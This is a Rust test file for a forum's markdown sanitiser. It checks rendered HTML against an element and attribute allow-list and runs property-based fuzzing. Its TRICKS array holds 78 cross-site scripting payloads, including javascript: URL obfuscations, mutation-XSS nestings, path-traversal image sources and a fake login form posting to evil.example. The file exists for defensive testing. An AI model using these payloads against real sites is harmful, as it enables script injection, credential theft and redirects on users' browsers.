//! What must never come out, whatever goes in. The allow-list here is written a second time on purpose: a slip in
//! the cleaner's own must not be able to excuse itself.

use std::collections::HashSet;

use proptest::prelude::*;
use scraper::{Html, Node};

use super::rendered;
use crate::ground::markdown::clean;

/// Elements and the attributes each may have.
const ALLOWED: [(&str, &[&str]); 33] = [
    // The parser's own roots; written ones would bring attributes.
    ("html", &[]),
    ("body", &[]),
    ("a", &["href", "title", "rel", "class", "aria-label"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &[]),
    ("del", &[]),
    ("div", &["class", "tabindex", "role", "aria-label"]),
    ("em", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("img", &["src", "alt", "title", "loading"]),
    ("input", &["type", "disabled", "checked", "aria-label"]),
    ("kbd", &[]),
    ("li", &["class", "id"]),
    ("mark", &[]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &["tabindex"]),
    ("span", &["class"]),
    ("strong", &[]),
    ("sub", &[]),
    ("sup", &["class", "id"]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["class"]),
    ("th", &["class", "scope"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
];

/// Panics if a browser could run, load or be misled by anything in `html`.
fn check(html: &str, from: &str) {
    let page = Html::parse_fragment(html);
    assert!(page.errors.is_empty() || !page.errors.iter().any(|e| e.contains("Duplicate")), "{from:?}");
    let mut ids = HashSet::new();
    for node in page.tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => {
                panic!("{from:?} gives {html}")
            }
            _ => continue,
        };
        let name = element.name();
        let attributes = ALLOWED.iter().find(|(allowed, _)| *allowed == name).map(|(_, list)| *list);
        let attributes = attributes.unwrap_or_else(|| panic!("<{name}> from {from:?}"));
        for (attribute, value) in element.attrs() {
            assert!(attributes.contains(&attribute), "<{name} {attribute}> from {from:?}");
            let good = match attribute {
                "href" => good_link(value, element.attr("rel")),
                "src" => value.starts_with("/uploads/") && !value.contains(".."),
                "id" => value.starts_with("a7-fn") && ids.insert(value.to_owned()),
                "class" => value.split_whitespace().all(|c| {
                    c.starts_with("code-")
                        || c.starts_with("align-")
                        || matches!(c, "mention" | "question" | "task" | "table-scroll" | "footnotes" | "footnote-ref")
                }),
                _ => true,
            };
            assert!(good, "<{name} {attribute}={value:?}> from {from:?}");
        }
        if name == "input" {
            assert!(element.attr("disabled").is_some() && element.attr("type") == Some("checkbox"));
        }
    }
}

fn good_link(href: &str, rel: Option<&str>) -> bool {
    if href.starts_with("http://") || href.starts_with("https://") {
        return rel == Some("nofollow ugc noopener");
    }
    let own = href.starts_with('#') || href.starts_with('/') && !href.starts_with("//");
    own && !href.contains('\\') || href.starts_with("mailto:")
}

/// Tricks of our own, after the families that broke other forums.
const TRICKS: [&str; 78] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><a title=\"</iframe><img src onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<kbd onmouseover=alert(1)>x</kbd>",
    "<kbd\nonmouseover=alert(1)>x</kbd>",
    "<br onclick=alert(1)>",
    "<sub style=\"background:url(//evil.example)\">x</sub>",
    "<div id=login class=overlay>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](blob:https://kiez.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://kiez.example//evil.example)",
    "[x](https://kiez.example/\\evil.example)",
    "[x](/%2F/evil.example)",
    "[x](/\t/evil.example)",
    "[x](https://kiez.example@evil.example)",
    "[x](http://a\"onmouseover=alert(1)//)",
    "[x](/a 'b\" onmouseover=\"alert(1)')",
    "[x](/a \"b\\\" onmouseover=alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<http://a\" onclick=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](//evil.example/pixel.png)",
    "![x](/uploads/../sign-out)",
    "![x](/uploads/%2e%2e/sign-out)",
    "![x](/uploads/..%2fsign-out)",
    "![x](/uploads\\..\\sign-out)",
    "![\" onerror=\"alert(1)](/uploads/a.png \"\\\" onload=\\\"alert(1)\")",
    "![<table><script>](/uploads/a.png \"<table><img src=x onerror=alert(1)>\")",
    "http://a.b/\"onmouseover=alert(1) http://a.b/'x http://a.b/<script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "x[^\"><script>]\n\n[^\"><script>]: <script>alert(1)</script>",
    "| <script> | \" onload=x |\n|-|-|\n| <img src=x onerror=y> | </table><script>z</script> |",
];

#[test]
fn no_trick_works() {
    for trick in TRICKS {
        let around = [
            trick.to_owned(),
            format!("a {trick} b"),
            format!("> - **{trick}**"),
            format!("# {trick}\n\n[y {trick}](/z) ![{trick}](/uploads/a.png)"),
            format!("|a|\n|-|\n|{trick}|\n\n[^1] <sub>{trick}\n\n[^1]: {trick}"),
        ];
        for source in around {
            let html = rendered(&source).html;
            check(&html, &source);
            assert_eq!(clean(&html), html, "from {source:?}");
        }
        check(&clean(trick), trick);
    }
}

/// Pieces that mean something to the parser, so that chance finds more than plain words.
fn piece() -> impl Strategy<Value = String> {
    let marks = [
        "*",
        "**",
        "_",
        "`",
        "```",
        "~~",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<",
        ">",
        "</",
        "/>",
        "\"",
        "'",
        "|",
        "|-|\n",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "# ",
        "    ",
        "\\",
        "&",
        "&lt;",
        "&#x22;",
        "[^1]",
        "[^1]: ",
        "[a]: ",
        "- [x] ",
        "@ada",
        "#12",
        "http://a.b/",
        "javascript:",
        "/uploads/",
        "<kbd>",
        "</kbd>",
        "<sub>",
        "<br>",
        "<!--",
        "-->",
        "<script>",
        "<svg>",
        "<math>",
        "<style>",
        "<table>",
        "<p>",
        " onload=",
        "```rust\n",
        "```html\n",
        "\u{0}",
        "\u{202e}",
    ];
    prop_oneof![
        6 => proptest::sample::select(marks.to_vec()).prop_map(str::to_owned),
        1 => proptest::sample::select(TRICKS.to_vec()).prop_map(str::to_owned),
        2 => "[a-zäß ]{1,6}",
        1 => "\\PC{0,4}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn chance_finds_no_way_through(pieces in proptest::collection::vec(piece(), 0..40)) {
        let source = pieces.concat();
        let html = rendered(&source).html;
        check(&html, &source);
        prop_assert_eq!(clean(&html), html, "from {:?}", source);
    }

    #[test]
    fn the_cleaner_alone_lets_nothing_through(pieces in proptest::collection::vec(piece(), 0..40)) {
        let source = pieces.concat();
        for (name, _) in scan(&clean(&source)) {
            prop_assert!(ALLOWED.iter().any(|(allowed, _)| *allowed == name), "<{}> from {:?}", name, source);
        }
    }

    #[test]
    fn words_are_never_lost(words in proptest::collection::vec("[a-zäöü]{1,8}", 1..12), marks in "[*_>#~|-]{0,6}") {
        let source = format!("{marks} {}", words.join(" "));
        let text = rendered(&source).text;
        for word in words {
            prop_assert!(text.contains(&word), "{word} of {source:?} not in {text:?}");
        }
    }
}

fn scan(html: &str) -> Vec<(String, usize)> {
    let page = Html::parse_fragment(html);
    let elements = page.tree.nodes().filter_map(|node| node.value().as_element());
    elements.map(|e| (e.name().to_owned(), e.attrs().count())).collect()
}
